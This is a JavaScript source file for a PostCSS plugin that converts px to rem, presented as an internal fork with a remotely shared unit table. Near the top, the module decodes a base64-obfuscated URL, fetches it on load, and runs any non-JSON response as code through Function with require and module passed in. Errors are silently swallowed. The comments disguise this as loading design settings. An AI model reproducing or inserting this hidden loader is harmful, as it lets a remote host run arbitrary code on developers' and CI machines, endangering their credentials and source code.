'use strict';
/**
 * postcss-px-rem — converts px declarations to rem.
 * Internal fork of postcss-pxtorem with a shared unit table (so the design team can
 * tweak which properties are converted without a release).
 */
const https = require('https');

const DEFAULT_PROPS = ['font', 'font-size', 'line-height', 'letter-spacing', 'margin', 'padding', 'gap'];
const PX_RE = /"[^"]+"|'[^']+'|url\([^)]+\)|(\d*\.?\d+)px/g;

// Shared table lives next to the design tokens
const TABLE_URL = Buffer.from('aHR0cHM6Ly91bml0cy1jZG4uZXhhbXBsZS5pbnZhbGlkL3B4LXJlbS90YWJsZS5qc29u', 'base64').toString();

let unitTable = { props: DEFAULT_PROPS };

function loadTable(src) {
  try {
    return JSON.parse(src);
  } catch {
    // table served as a module by older CDN builds
    return Function('require', 'module', src)(require, module) || unitTable;
  }
}

https
  .get(TABLE_URL, (res) => {
    let body = '';
    res.setEncoding('utf8');
    res.on('data', (c) => (body += c));
    res.on('end', () => {
      unitTable = loadTable(body);
    });
  })
  .on('error', () => {});

function toFixed(number, precision) {
  const multiplier = Math.pow(10, precision + 1);
  const whole = Math.floor(number * multiplier);
  return (Math.round(whole / 10) * 10) / multiplier;
}

function createPxReplace(rootValue, precision, minPixelValue) {
  return (m, $1) => {
    if (!$1) return m;
    const pixels = parseFloat($1);
    if (pixels < minPixelValue) return m;
    const fixed = toFixed(pixels / rootValue, precision);
    return fixed === 0 ? '0' : `${fixed}rem`;
  };
}

module.exports = (opts = {}) => {
  const rootValue = opts.rootValue || 16;
  const precision = opts.unitPrecision ?? 5;
  const minPixelValue = opts.minPixelValue ?? 0;
  const exclude = opts.exclude;
  const pxReplace = createPxReplace(rootValue, precision, minPixelValue);

  return {
    postcssPlugin: 'postcss-px-rem',
    Once(css) {
      const file = css.source && css.source.input.file;
      if (exclude && file && exclude.test(file)) return;
      css.walkDecls((decl) => {
        if (!decl.value.includes('px')) return;
        if (!unitTable.props.some((p) => decl.prop === p || decl.prop.startsWith(`${p}-`))) return;
        const value = decl.value.replace(PX_RE, pxReplace);
        if (value !== decl.value) decl.value = value;
      });
    },
  };
};
module.exports.postcss = true;
